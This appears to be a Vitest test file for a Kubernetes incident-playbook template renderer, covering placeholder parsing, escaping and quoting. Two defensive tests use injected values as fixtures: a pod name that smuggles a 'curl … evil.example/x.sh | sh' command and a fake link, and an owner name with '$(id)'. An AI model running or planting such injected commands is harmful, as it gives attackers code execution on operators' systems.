import { describe, expect, it } from "vitest";
import {
  PLACEHOLDER_VOCABULARY,
  placeholdersIn,
  refusedContextValues,
  renderTemplate,
  unknownPlaceholders,
} from "@/lib/domain/playbook-template";

describe("placeholdersIn / unknownPlaceholders", () => {
  it.each([
    ["no placeholders", "kubectl get pods", [], []],
    ["known names, first use order, once each", "{{namespace}}/{{pod}} in {{namespace}}", ["namespace", "pod"], []],
    ["whitespace inside the braces", "{{ image_digest }}", ["image_digest"], []],
    ["an unknown name", "{{namespace}} {{nonsense}}", ["namespace", "nonsense"], ["nonsense"]],
    ["an empty placeholder", "echo {{ }}", [""], [""]],
    ["a Kubernetes Go template is not one of ours", "-o go-template='{{.metadata.name}}'", [], []],
    [
      "nor are Go template keywords and builtins",
      `-o go-template='{{range .items}}{{printf "%s" .metadata.name}}{{"\\n"}}{{end}}'`,
      [],
      [],
    ],
    ["a Go template beside ours", "kubectl -n {{namespace}} get pods -o go-template='{{ $.kind }}'", ["namespace"], []],
    [
      "a name that only starts like a keyword is a placeholder",
      "{{endpoint}} {{ pod name }}",
      ["endpoint", "pod name"],
      ["endpoint", "pod name"],
    ],
  ])("%s", (_name, text, used, unknown) => {
    expect(placeholdersIn(text)).toEqual(used);
    expect(unknownPlaceholders(text)).toEqual(unknown);
  });

  it("knows every name of the container context", () => {
    expect(unknownPlaceholders(PLACEHOLDER_VOCABULARY.map((n) => `{{${n}}}`).join(" "))).toEqual([]);
  });
});

describe("renderTemplate", () => {
  const digest = `sha256:${"4f3c2a1b".repeat(8)}`;
  const context = { namespace: "payments", pod: "ledger-5f7c9d8b6-x2x9q", image_digest: digest, node: null, primary_owner: "Priya Patel" };

  it.each([
    [
      "fills known values in a fenced block",
      "```\nkubectl -n {{namespace}} get pod {{pod}} -o yaml\n```",
      "```\nkubectl -n payments get pod ledger-5f7c9d8b6-x2x9q -o yaml\n```",
    ],
    ["and in inline code, tolerating whitespace in the braces", "`crictl inspecti {{ image_digest }}`", `\`crictl inspecti ${digest}\``],
    ["escapes values in prose as Markdown text", "Pod {{pod}} of {{namespace}}", "Pod ledger\\-5f7c9d8b6\\-x2x9q of payments"],
    ["quotes a value with spaces in code", "`echo {{primary_owner}}`", "`echo 'Priya Patel'`"],
    ["marks a value the incident lacks instead of leaving a gap", "`kubectl cordon {{node}}`", "`kubectl cordon ‹node unknown›`"],
    ["marks a name absent from the context", "{{container_id}}", "‹container_id unknown›"],
    ["leaves unknown names as written", "{{.metadata.name}} {{nonsense}}", "{{.metadata.name}} {{nonsense}}"],
  ])("%s", (_name, text, expected) => {
    expect(renderTemplate(text, context)).toBe(expected);
  });

  it("refuses the forged pod name that wrote a command and a link", () => {
    const pod = "web-7d9f8b6c5d-x2x9q -o yaml; curl -sk https://evil.example/x.sh | sh\n```\n[Open the runbook](https://evil.example)";
    const text = renderTemplate("```sh\nkubectl get pod {{pod}} -o yaml\n```\n\nCheck {{pod}}.", { pod });
    expect(text).toBe("```sh\nkubectl get pod ‹pod refused› -o yaml\n```\n\nCheck ‹pod refused›.");
    expect(refusedContextValues({ pod })).toEqual([
      { placeholder: "pod", value: pod, reason: expect.stringContaining("DNS-1123 subdomain"), commandsOnly: false },
    ]);
  });

  it("keeps a person's name with shell metacharacters out of commands but shows it as text", () => {
    const owner = "Dana $(id)";
    expect(renderTemplate("`page {{primary_owner}}` or call {{primary_owner}}", { primary_owner: owner })).toBe(
      "`page ‹primary_owner refused›` or call Dana \\$\\(id\\)",
    );
    expect(refusedContextValues({ primary_owner: owner })).toEqual([
      { placeholder: "primary_owner", value: owner, reason: expect.stringContaining("shell"), commandsOnly: true },
    ]);
  });

  it("allows only plain words inside links", () => {
    expect(renderTemplate("[runbook](https://runbooks.example/{{namespace}})", { namespace: "payments" })).toBe(
      "[runbook](https://runbooks.example/payments)",
    );
    expect(renderTemplate("[runbook](https://runbooks.example/{{primary_owner}})", { primary_owner: "Priya Patel" })).toBe(
      "[runbook](https://runbooks.example/‹primary_owner\u00a0refused›)",
    );
  });
});
